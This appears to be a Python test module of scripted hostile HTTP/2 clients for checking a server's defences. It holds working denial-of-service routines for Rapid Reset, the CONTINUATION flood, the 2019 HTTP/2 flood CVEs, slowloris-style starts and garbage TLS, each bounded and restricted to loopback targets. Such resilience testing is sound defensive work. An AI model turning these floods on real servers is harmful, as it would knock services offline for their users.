"""Scripted hostile HTTP/2 clients, one function per attack, for testing the server.

Each attack is a raw client (hyperframe frames, hpack blocks, plain sockets or TLS) that
does one abusive thing, bounded in frames and in seconds, and reports what the server did
to it: the GOAWAY error code it got, whether the server closed the connection, and what
it sent. Loopback only: a target that is not a loopback address is refused.

The classes follow the 2019 HTTP/2 advisories (CVE-2019-9511 data dribble, -9512 ping
flood, -9513 priority churn, -9514 reset flood, -9515 settings flood, -9516 zero-length
headers, -9517 internal data buffering, -9518 empty frames), Rapid Reset (CVE-2023-44487)
and the CONTINUATION flood (CVE-2024-27316), plus slow and stalled readers, abrupt resets,
half-open connections and garbage TLS.
"""

from __future__ import annotations

import contextlib
import random
import socket
import ssl
import struct
import time
from collections.abc import Callable, Iterator

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from toolkit.clients.hostile.peer import (
    BATCH_FRAMES,
    AttackResult,
    HostileTargetError,
    Peer,
    Target,
    client_context,
    flood,
    repeat,
    run_attack,
)
from toolkit.protocol.frames import MAX_WINDOW, PREFACE, FrameType, pack_header


def ping_flood(target: Target, *, frames: int = 200_000, duration_s: float = 5.0,
               wait_s: float = 3.0) -> AttackResult:
    """CVE-2019-9512: PINGs, never reading the ACKs."""
    def body(r: AttackResult) -> None:
        peer = Peer(target, r, rcvbuf_bytes=4096)
        if peer.start():
            flood(peer, repeat(PingFrame(0, opaque_data=b"hostile!")), frames, duration_s)
        peer.finish(wait_s)
    return run_attack("ping_flood", target, body)


def settings_flood(target: Target, *, frames: int = 200_000, duration_s: float = 5.0,
                   wait_s: float = 3.0) -> AttackResult:
    """CVE-2019-9515: SETTINGS frames, each owed an ACK, never reading."""
    def body(r: AttackResult) -> None:
        peer = Peer(target, r, rcvbuf_bytes=4096)
        if peer.start():
            frame = SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100})
            flood(peer, repeat(frame), frames, duration_s)
        peer.finish(wait_s)
    return run_attack("settings_flood", target, body)


def settings_too_many_entries(target: Target, *, entries: int = 2000,
                              wait_s: float = 3.0) -> AttackResult:
    """One SETTINGS frame with thousands of entries (each costs a validation)."""
    def body(r: AttackResult) -> None:
        peer = Peer(target, r)
        if peer.start():
            payload = struct.pack(">HL", SettingsFrame.ENABLE_PUSH, 0) * entries
            head = pack_header(len(payload), FrameType.SETTINGS, 0, 0)
            peer.send(head + payload, 1)
        peer.finish(wait_s)
    return run_attack("settings_too_many_entries", target, body)


def priority_churn(target: Target, *, frames: int = 200_000, duration_s: float = 5.0,
                   wait_s: float = 3.0) -> AttackResult:
    """CVE-2019-9513: PRIORITY frames reshuffling a dependency tree of idle streams."""
    def frames_iter() -> Iterator[bytes]:
        i = 0
        while True:
            sid = 3 + 2 * (i % 1000)
            dep = 1 + 2 * ((i * 7919) % 1000)
            yield PriorityFrame(sid, depends_on=dep if dep != sid else 0,
                                stream_weight=i % 256, exclusive=bool(i & 1)).serialize()
            i += 1

    def body(r: AttackResult) -> None:
        peer = Peer(target, r)
        if peer.start():
            flood(peer, frames_iter(), frames, duration_s)
        peer.finish(wait_s)
    return run_attack("priority_churn", target, body)


def reset_flood(target: Target, *, frames: int = 400_000, duration_s: float = 6.0,
                wait_s: float = 3.0) -> AttackResult:
    """CVE-2019-9514: frames the server must answer with RST_STREAM, never reading.

    Stream 1 is half-closed by the request (END_STREAM) and held open by a zero window;
    every DATA frame on it is a stream error the server answers with RST_STREAM.
    """
    def body(r: AttackResult) -> None:
        peer = Peer(target, r, rcvbuf_bytes=4096)
        if peer.start({SettingsFrame.INITIAL_WINDOW_SIZE: 0}):
            peer.send(peer.headers(1, "/").serialize(), 1)
            flood(peer, repeat(DataFrame(1, data=b"x")), frames, duration_s)
        peer.finish(wait_s)
    return run_attack("reset_flood", target, body)


def zero_length_headers(target: Target, *, headers: int = 2000,
                        wait_s: float = 3.0) -> AttackResult:
    """CVE-2019-9516: header fields with empty names and values."""
    def body(r: AttackResult) -> None:
        peer = Peer(target, r)
        if peer.start():
            frame = peer.headers(1, "/", extra=[(b"", b"")] * headers)
            frame.data = frame.data[:16000]  # one frame's worth
            peer.send(frame.serialize(), 1)
        peer.finish(wait_s)
    return run_attack("zero_length_headers", target, body)


def internal_data_buffering(target: Target, *, streams: int = 100,
                            path: str = "/bytes/16777216", connections: int = 2,
                            hold_s: float = 5.0, wait_s: float = 3.0) -> AttackResult:
    """CVE-2019-9517: open windows, request large bodies, never read (for ``hold_s``)."""
    def body(r: AttackResult) -> None:
        peers = [Peer(target, r, rcvbuf_bytes=4096) for _ in range(connections)]
        for peer in peers:
            if peer.start({SettingsFrame.INITIAL_WINDOW_SIZE: MAX_WINDOW},
                          window_bytes=MAX_WINDOW - 65535):
                reqs = b"".join(peer.headers(1 + 2 * i, path).serialize()
                                for i in range(streams))
                peer.send(reqs, streams)
        time.sleep(hold_s)
        for peer in peers:
            peer.finish(wait_s)
    return run_attack("internal_data_buffering", target, body)


def empty_frames_flood(target: Target, *, frames: int = 200_000, duration_s: float = 5.0,
                       wait_s: float = 3.0) -> AttackResult:
    """CVE-2019-9518: empty DATA frames (no END_STREAM) on an open request stream."""
    def body(r: AttackResult) -> None:
        peer = Peer(target, r)
        if peer.start():
            peer.send(peer.headers(1, "/", end_stream=False).serialize(), 1)
            flood(peer, repeat(DataFrame(1, data=b"")), frames, duration_s)
        peer.finish(wait_s)
    return run_attack("empty_frames_flood", target, body)


def data_dribble(target: Target, *, streams: int = 20, path: str = "/bytes/1048576",
                 increment_bytes: int = 1, rounds: int = 300, duration_s: float = 4.0,
                 wait_s: float = 1.0) -> AttackResult:
    """CVE-2019-9511: zero initial windows, then 1-byte WINDOW_UPDATEs, reading the dribble.

    ``window_granted_bytes`` is the credit handed out: the server may send no more DATA.
    """
    def body(r: AttackResult) -> None:
        peer = Peer(target, r)
        if not peer.start({SettingsFrame.INITIAL_WINDOW_SIZE: 0}):
            peer.finish(wait_s)
            return
        ids = [1 + 2 * i for i in range(streams)]
        peer.send(b"".join(peer.headers(sid, path).serialize() for sid in ids), streams)
        batch = b"".join(WindowUpdateFrame(sid, window_increment=increment_bytes).serialize()
                         for sid in ids)
        deadline = time.monotonic() + duration_s
        for _ in range(rounds):
            if time.monotonic() > deadline or not peer.send(batch, streams):
                break
            r.window_granted_bytes += increment_bytes * streams
            peer.read_some(0.001)
        peer.finish(wait_s)
    return run_attack("data_dribble", target, body)


# ---- the 2023/2024 CVEs ----------------------------------------------------------------


def rapid_reset(target: Target, *, streams: int = 50_000, duration_s: float = 5.0,
                wait_s: float = 3.0) -> AttackResult:
    """CVE-2023-44487: open a stream and cancel it at once, as fast as possible."""
    def body(r: AttackResult) -> None:
        peer = Peer(target, r)
        if not peer.start():
            peer.finish(wait_s)
            return
        deadline = time.monotonic() + duration_s
        sid = 1
        while sid < 2 * streams and time.monotonic() < deadline:
            out = []
            for _ in range(BATCH_FRAMES // 2):
                out.append(peer.headers(sid, "/").serialize())
                out.append(RstStreamFrame(sid, error_code=0x8).serialize())  # CANCEL
                sid += 2
            if not peer.send(b"".join(out), len(out)):
                break
        peer.finish(wait_s)
    return run_attack("rapid_reset", target, body)


def continuation_flood(target: Target, *, frames: int = 100_000, frame_bytes: int = 16384,
                       duration_s: float = 5.0, wait_s: float = 3.0) -> AttackResult:
    """CVE-2024-27316: a header block that never ends (CONTINUATION without END_HEADERS)."""
    def body(r: AttackResult) -> None:
        peer = Peer(target, r)
        if peer.start():
            first = peer.headers(1, "/", end_headers=False)
            junk = peer.encoder.encode([(b"x-flood", b"a" * 200)] * (frame_bytes // 210))
            junk = (junk * (frame_bytes // max(1, len(junk)) + 1))[:frame_bytes]
            if peer.send(first.serialize(), 1):
                flood(peer, repeat(ContinuationFrame(1, data=junk)), frames, duration_s)
        peer.finish(wait_s)
    return run_attack("continuation_flood", target, body)


# ---- slow, stalled, broken -------------------------------------------------------------


def zero_window(target: Target, *, streams: int = 10, path: str = "/bytes/16777216",
                hold_s: float = 5.0, wait_s: float = 3.0) -> AttackResult:
    """Request 16 MiB bodies with a zero window and hold the connection (pinging now and
    then, so the connection is not idle): only a stall timeout frees the streams."""
    def body(r: AttackResult) -> None:
        peer = Peer(target, r)
        if peer.start({SettingsFrame.INITIAL_WINDOW_SIZE: 0}):
            peer.send(b"".join(peer.headers(1 + 2 * i, path).serialize()
                               for i in range(streams)), streams)
            deadline = time.monotonic() + hold_s
            while time.monotonic() < deadline and peer.send(
                    PingFrame(0, opaque_data=b"stalling").serialize(), 1):
                time.sleep(0.25)  # well under any PING rate limit
                peer.read_some(0.01)
        peer.finish(wait_s)
    return run_attack("zero_window", target, body)


def slow_reader(target: Target, *, streams: int = 10, path: str = "/bytes/16777216",
                read_bytes_per_s: int = 256 << 10, duration_s: float = 4.0,
                wait_s: float = 0.0) -> AttackResult:
    """Open windows, request 16 MiB bodies, read them at ``read_bytes_per_s``."""
    def body(r: AttackResult) -> None:
        peer = Peer(target, r, rcvbuf_bytes=16384)
        if peer.start({SettingsFrame.INITIAL_WINDOW_SIZE: MAX_WINDOW},
                      window_bytes=MAX_WINDOW - 65535):
            peer.send(b"".join(peer.headers(1 + 2 * i, path).serialize()
                               for i in range(streams)), streams)
            started = time.monotonic()
            while (now := time.monotonic()) - started < duration_s and not peer.closed:
                if r.bytes_received > read_bytes_per_s * (now - started):
                    time.sleep(0.02)
                    continue
                peer.read_some(0.05)
        peer.finish(wait_s)
    return run_attack("slow_reader", target, body)


def abrupt_reset(target: Target, *, where: str = "mid-frame", wait_s: float = 0.5
                 ) -> AttackResult:
    """A TCP RST in the middle of something: ``mid-frame`` (after half a HEADERS frame),
    ``mid-record`` (TLS: after half a TLS record of application data) or ``mid-handshake``
    (TLS: after half a ClientHello)."""
    if where not in ("mid-frame", "mid-record", "mid-handshake"):
        raise HostileTargetError(f"abrupt_reset where={where!r}: mid-frame, mid-record, "
                                 "mid-handshake")
    if where != "mid-frame" and not target.tls:
        raise HostileTargetError(f"abrupt_reset {where} needs a TLS target")

    def body(r: AttackResult) -> None:
        raw = socket.create_connection((target.host, target.port), timeout=2.0)
        r.local_ports.append(raw.getsockname()[1])
        enc = hpack.Encoder()
        request = HeadersFrame(1, data=enc.encode([(b":method", b"GET"), (b":path", b"/"),
                                                   (b":scheme", b"http"),
                                                   (b":authority", b"localhost")]),
                               flags=["END_STREAM", "END_HEADERS"]).serialize()
        h2_bytes = PREFACE + SettingsFrame(0).serialize() + request
        if not target.tls:
            wire = h2_bytes[:-len(request) // 2]
        else:
            incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
            tls = client_context().wrap_bio(incoming, outgoing, server_hostname="localhost")
            with contextlib.suppress(ssl.SSLWantReadError):
                tls.do_handshake()
            hello = outgoing.read()
            if where == "mid-handshake":
                wire = hello[:len(hello) // 2]
            else:
                raw.sendall(hello)
                while True:
                    try:
                        tls.do_handshake()
                        break
                    except ssl.SSLWantReadError:
                        pending = outgoing.read()
                        if pending:
                            raw.sendall(pending)
                        chunk = raw.recv(65536)
                        if not chunk:
                            raise ConnectionResetError("server closed during handshake") from None
                        incoming.write(chunk)
                raw.sendall(outgoing.read())  # the client Finished
                tls.write(h2_bytes)
                record = outgoing.read()
                wire = record[:len(record) // 2]
        raw.sendall(wire)
        r.bytes_sent += len(wire)
        time.sleep(wait_s)  # let the server read the partial bytes first
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        raw.close()
    return run_attack(f"abrupt_reset_{where}", target, body)


def half_open(target: Target, *, connections: int = 20, partial: bool = True,
              hold_s: float = 5.0) -> AttackResult:
    """Connections that never finish starting: nothing, or half a preface/ClientHello.
    ``closed_by_server`` counts those the server closed within ``hold_s``."""
    def body(r: AttackResult) -> None:
        socks = []
        for _ in range(connections):
            s = socket.create_connection((target.host, target.port), timeout=2.0)
            r.local_ports.append(s.getsockname()[1])
            if partial:
                start = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" if target.tls \
                    else PREFACE[:12]
                s.sendall(start)
                r.bytes_sent += len(start)
            s.setblocking(False)
            socks.append(s)
        deadline = time.monotonic() + hold_s
        open_socks = list(socks)
        while open_socks and time.monotonic() < deadline:
            time.sleep(0.1)
            for s in list(open_socks):
                try:
                    chunk = s.recv(65536)
                except BlockingIOError:
                    continue
                except OSError:
                    chunk = b""
                r.bytes_received += len(chunk)
                if not chunk:
                    r.closed_by_server += 1
                    open_socks.remove(s)
        for s in socks:
            s.close()
    return run_attack("half_open", target, body)


def slow_start(target: Target, *, connections: int = 3, interval_s: float = 0.25,
               hold_s: float = 8.0) -> AttackResult:
    """Slowloris at the door: the ClientHello (TLS) or the HTTP/2 preface, one byte per
    ``interval_s``, so the connection is never idle and never starts. ``closed_by_server``
    counts the connections the server closed within ``hold_s``."""
    def body(r: AttackResult) -> None:
        start = (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(506) if target.tls
                 else PREFACE + SettingsFrame(0).serialize())
        socks = []
        for _ in range(connections):
            s = socket.create_connection((target.host, target.port), timeout=2.0)
            r.local_ports.append(s.getsockname()[1])
            s.setblocking(False)
            socks.append(s)
        deadline = time.monotonic() + hold_s
        open_socks = list(socks)
        pos = 0
        while open_socks and time.monotonic() < deadline:
            for s in list(open_socks):
                try:
                    if pos < len(start) - 1:  # never the last byte: the start never completes
                        r.bytes_sent += s.send(start[pos:pos + 1])
                    chunk = s.recv(65536)
                except BlockingIOError:
                    continue
                except OSError:
                    chunk = b""
                r.bytes_received += len(chunk)
                if not chunk:
                    r.closed_by_server += 1
                    open_socks.remove(s)
            pos += 1
            time.sleep(interval_s)
        for s in socks:
            s.close()
    return run_attack("slow_start", target, body)


def garbage_tls(target: Target, *, connections: int = 5, garbage_bytes: int = 4096,
                seed: int = 8, wait_s: float = 3.0) -> AttackResult:
    """Bytes that are not TLS: random noise, and a handshake record header announcing a
    16 MiB body that never comes right."""
    rng = random.Random(seed)

    def body(r: AttackResult) -> None:
        for i in range(connections):
            s = socket.create_connection((target.host, target.port), timeout=wait_s)
            r.local_ports.append(s.getsockname()[1])
            noise = rng.randbytes(garbage_bytes)
            data = noise if i % 2 == 0 else b"\x16\x03\x01\xff\xff" + noise
            with contextlib.suppress(OSError):
                s.sendall(data)
                r.bytes_sent += len(data)
            try:
                while chunk := s.recv(65536):
                    r.bytes_received += len(chunk)
                r.closed_by_server += 1
            except TimeoutError:
                pass
            except OSError:
                r.closed_by_server += 1
            s.close()
    return run_attack("garbage_tls", target, body)


ATTACKS: dict[str, Callable[..., AttackResult]] = {
    f.__name__: f for f in (
        ping_flood, settings_flood, settings_too_many_entries, priority_churn, reset_flood,
        zero_length_headers, internal_data_buffering, empty_frames_flood, data_dribble,
        rapid_reset, continuation_flood, zero_window, slow_reader, abrupt_reset, half_open,
        slow_start, garbage_tls)
}
